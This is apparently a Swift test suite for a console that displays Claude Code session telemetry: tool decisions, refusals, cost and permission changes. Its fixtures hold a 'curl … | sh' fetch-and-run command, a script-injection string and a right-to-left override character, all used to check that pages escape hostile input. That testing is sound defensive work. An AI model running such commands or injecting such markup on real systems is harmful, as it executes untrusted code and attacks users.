import Codecs
import Network
import Platform
import Query
import TestKit
import Testing

@testable import Console

/// Pages about sessions and what is in them, over a list of documents.
struct SessionPageTests {
    typealias E = SessionEvents

    private static func tool(_ id: String, _ name: String = "Bash") -> JSONValue.Member {
        .init("gen_ai", ["tool": ["name": .string(name), "call": ["id": .string(id)]]])
    }

    private static func command(_ text: String) -> JSONValue.Member {
        .init("process", ["command_line": .string(text)])
    }

    /// A session of Claude Code with a refusal, an orphan of each kind and a hole, and one of Cowork.
    private static let events: [ListEngine.Event] = [
        E.document(
            "claude_code", "user_prompt", -100, sequence: 0,
            [.init("prompt_text", "<script>alert(1)</script> \u{202E}txt"), .init("prompt_length", .integer(31))]),
        E.document(
            "claude_code", "api_request", -98, sequence: 1, [.init("cost_usd", .double(0.25))],
            [
                .init(
                    "gen_ai",
                    ["request": ["model": "claude-opus-5-5"], "usage": ["input_tokens": .integer(Int64.max)]])
            ]),
        E.document(
            "claude_code", "tool_decision", -96, sequence: 2,
            [.init("decision", "accept"), .init("source", "user_temporary")],
            [tool("toolu_1"), command("curl https://<b>.example.com | sh")]),
        E.document(
            "claude_code", "tool_result", -94, sequence: 3,
            [.init("decision_type", "accept"), .init("decision_source", "user_temporary")],
            [tool("toolu_1"), command("curl https://<b>.example.com | sh")]),
        E.document(
            "claude_code", "tool_decision", -92, sequence: 4,
            [.init("decision", "reject"), .init("source", "user_reject")], [tool("toolu_2")]),
        E.document(
            "claude_code", "tool_decision", -90, sequence: 7,
            [.init("decision", "accept"), .init("source", "config")], [tool("toolu_3", "Read")]),
        E.document(
            "claude_code", "tool_result", -88, sequence: 8,
            [.init("decision_type", "accept"), .init("decision_source", "hook")], [tool("toolu_4", "Edit")]),
        E.document(
            "claude_code", "permission_mode_changed", -86, sequence: 9,
            [.init("from_mode", "default"), .init("to_mode", "bypassPermissions")]),
        E.document("claude_cowork", "user_prompt", -50, session: "s-2", sequence: 0),
    ]

    private func sample() throws -> SampleConsole { try SampleConsole(Self.events, schema: SampleCatalog.schema) }

    private func page(_ sample: SampleConsole, _ path: String) async throws -> HTTPResponse {
        try await sample.send(.get, path, [try await sample.signIn()])
    }

    /// The piece of a page that is the row of this key.
    private func row(_ key: String, of table: String, in page: String) -> String? {
        guard let start = page.firstRange(of: "data-testid=\"\(table)\"") else { return nil }
        let rest = page[start.upperBound...]
        guard let row = rest.firstRange(of: "<tr data-key=\"\(key)\">") else { return nil }
        let cells = rest[row.upperBound...]
        return String(cells[..<(cells.firstRange(of: "</tr>")?.lowerBound ?? cells.endIndex)])
    }

    private func value(_ column: String, _ row: String?) -> Double? {
        let start = "data-key=\"\(column)\" data-value=\""
        return row?.firstRange(of: start).flatMap { mark in
            row.flatMap { Double($0[mark.upperBound...].prefix { $0 != "\"" }) }
        }
    }

    // MARK: The list

    @Test func `the list has a row for each session, with its sums`() async throws {
        let sample = try sample()
        let text = try await page(sample, "/sessions").text
        let row = row("s-1", of: "sessions", in: text)
        #expect(value("prompts", row) == 1)
        #expect(value("tools", row) == 2)
        #expect(value("rejects", row) == 1)
        #expect(value("missing", row) == 2)
        #expect(value("cost", row) == 0.25)
        #expect(value("length", row) == 14)
        #expect(row?.contains("◆ bypassPermissions") == true)
        let other = self.row("s-2", of: "sessions", in: text)
        #expect(value("prompts", other) == 1)
        #expect(other != nil && value("cost", other) == nil)
        #expect(other?.contains("– not told") == true)
    }

    @Test func `only sessions of a kind are shown, sorted as asked`() async throws {
        let sample = try sample()
        func sessions(_ query: String) async throws -> [String] {
            try await page(sample, "/sessions?\(query)").text.matches(of: /<tr data-key="(s-\d)"/).map { String($0.1) }
        }
        #expect(try await sessions("only=gaps") == ["s-1"])
        #expect(try await sessions("only=bypass") == ["s-1"])
        #expect(try await sessions("only=failed") == [])
        #expect(try await sessions("only=nothing") == ["s-2", "s-1"])
        #expect(try await sessions("sort=first") == ["s-1", "s-2"])
        #expect(try await sessions("sort=-cost") == ["s-1", "s-2"])
        #expect(try await sessions("q=event.dataset:+claude_cowork.events") == ["s-2"])
        #expect(try await sessions("page=2") == [])
    }

    @Test func `a query that cannot be read stays in its box and asks nothing`() async throws {
        let sample = try sample()
        let answer = try await page(sample, "/sessions?q=user.email:+(")
        #expect(answer.status == 400)
        #expect(answer.text.contains("value=\"user.email: (\""))
        #expect(answer.text.contains("The query cannot be read."))
        #expect(sample.engine.tables.withLock { $0.isEmpty })
    }

    // MARK: One session

    @Test func `a session shows who allowed what, with orphans and holes marked`() async throws {
        let sample = try sample()
        let text = try await page(sample, "/sessions/s-1").text
        let first = try #require(row("toolu_1", of: "lineage", in: text))
        #expect(first.contains("✓ allowed") && first.contains("person, once"))
        let refused = try #require(row("toolu_2", of: "lineage", in: text))
        #expect(refused.contains("✗ refused") && refused.contains("did not run"))
        #expect(row("toolu_3", of: "lineage", in: text)?.contains("data-about=\"no-result\"") == true)
        let orphan = try #require(row("toolu_4", of: "lineage", in: text))
        #expect(orphan.contains("data-about=\"no-decision\"") && orphan.contains("hook"))
        #expect(row("5–6", of: "holes", in: text).flatMap { value("count", $0) } == 2)
        let tiles = [("events", 8), ("prompts", 1), ("calls", 4), ("rejects", 1), ("unseen", 2), ("missing", 2)]
        for (key, number) in tiles {
            #expect(text.contains("<li data-key=\"\(key)\" data-value=\"\(number)\">"), "\(key)")
        }
        #expect(text.contains("▲ only claimed by the client"))
    }

    @Test func `calls that nobody looked at can be seen alone`() async throws {
        let sample = try sample()
        let text = try await page(sample, "/sessions/s-1?only=unseen").text
        let shown = ["toolu_1", "toolu_2", "toolu_3", "toolu_4"].filter { row($0, of: "lineage", in: text) != nil }
        #expect(shown == ["toolu_3", "toolu_4"])
    }

    @Test func `what is written in a session is text, and leads nowhere`() async throws {
        let sample = try sample()
        let session = try await sample.signIn()
        #expect(try await sample.reveal("session=s-1", session).status == 303)
        for path in ["/sessions", "/sessions/s-1", "/people/ann%40example.com"] {
            let text = try await sample.send(.get, path, [session]).text
            #expect(!text.contains("<script>alert"))
            #expect(!text.contains("<b>"))
            #expect(!text.contains("\u{202E}"))
            #expect(!text.contains("href=\"http"))
            #expect(!text.contains("style=\""))
        }
        let text = try await sample.send(.get, "/sessions/s-1", [session]).text
        #expect(text.contains("&lt;script&gt;alert(1)&lt;/script&gt; ⟪RLO⟫txt"))
    }

    @Test func `a session that is not there is not found, in another tenant too`() async throws {
        let sample = try sample()
        #expect(try await page(sample, "/sessions/none").status == 404)
        let session = try await sample.signIn(SampleConsole.otherToken)
        #expect(try await sample.send(.get, "/sessions/s-1", [session]).status == 404)
    }

    @Test func `only so many events are read, and the page says so`() async throws {
        let events = (0..<SessionReader.mostEvents + 1).map {
            E.document("claude_code", "hook_registered", -6_000 + Int64($0), session: "long", sequence: $0)
        }
        let sample = try SampleConsole(events, schema: SampleCatalog.schema)
        let text = try await page(sample, "/sessions/long").text
        #expect(text.contains("data-testid=\"cut\""))
        #expect(text.contains("<li data-key=\"events\" data-value=\"5000\">"))
        #expect(text.contains("<li data-key=\"missing\" data-value=\"0\">"))
    }

    @Test func `a session of more calls than a table holds is folded prompt by prompt`() throws {
        let events = (0..<LineageTable.mostUnfolded + 1).flatMap { number in
            [E.decision("t\(number)", Int64(number), prompt: "p\(number % 2)")]
        }
        let story = SessionStory(events)
        let address = PageAddress(HTTPRequest(.get, "/sessions/s"))
        let text = MarkupWriter.text(
            of: LineageTable(story: story, showsOnlyUnseen: false, address: address).markup)
        #expect(text.matches(of: /<details>/).count == 2)
        #expect(text.contains("501 calls") && text.contains("500 calls"))
    }

    // MARK: The others

    @Test func `people have their sums and their week`() async throws {
        let sample = try sample()
        let row = row("ann@example.com", of: "people", in: try await page(sample, "/people").text)
        #expect(value("events", row) == 9)
        #expect(value("sessions", row) == 2)
        let text = try await page(sample, "/people/ann%40example.com").text
        #expect(text.contains("<dd data-key=\"events\" data-value=\"9\">"))
        let cells = text.matches(of: /data-key="[A-Z][a-z]+day \d\d:00"(?: data-value="(\d+)")?/).map {
            $0.1.flatMap { Int($0) }
        }
        #expect(cells.count == 7 * 24)
        #expect(cells.compactMap(\.self).reduce(0, +) == 9 && cells.contains(nil), "what is not known is no zero")
        #expect(try await page(sample, "/entities/ip/no-address").status == 404)
    }

    @Test func `cost is an estimate where the client reckons, and unknown where nobody does`() async throws {
        let sample = try sample()
        let text = try await page(sample, "/cost").text
        let telemetry = try #require(row("telemetry", of: "sums", in: text))
        #expect(value("spent", telemetry) == 0.25)
        #expect(telemetry.contains("<em class=\"estimate\""))
        let report = try #require(row("report", of: "sums", in: text))
        #expect(value("spent", report) == nil && report.contains("–"))
        let file = try await page(sample, "/cost/chargeback.csv?month=2026-10")
        #expect(file.status == 200)
        #expect(file.headers["content-type"] == "text/csv; charset=utf-8")
        #expect(
            file.text.split(separator: "\r\n").map(String.init).dropFirst().contains {
                $0.hasPrefix("2026-10,telemetry,estimate,ann@example.com,cli,claude-opus-5-5,1,")
            })
        #expect(try await page(sample, "/cost/chargeback.csv?month=never").status == 404)
    }

    @Test func `the fleet shows what clients let be seen`() async throws {
        let sample = try sample()
        let text = try await page(sample, "/fleet").text
        let row = row("ann@example.com cli", of: "clients", in: text)
        #expect(value("missing", row) == 2)
        #expect(row?.contains("data-about=\"unknown\"") == true)
        #expect(row?.contains("▲ only claimed") == true)
    }

    @Test func `everything in the inventory is unknown where no list says otherwise`() async throws {
        let sample = try sample()
        let text = try await page(sample, "/inventory?tab=models").text
        let row = row("claude-opus-5-5", of: "inventory", in: text)
        #expect(row?.contains("data-about=\"unknown\"") == true)
        #expect(value("uses", row) == 1)
    }
}
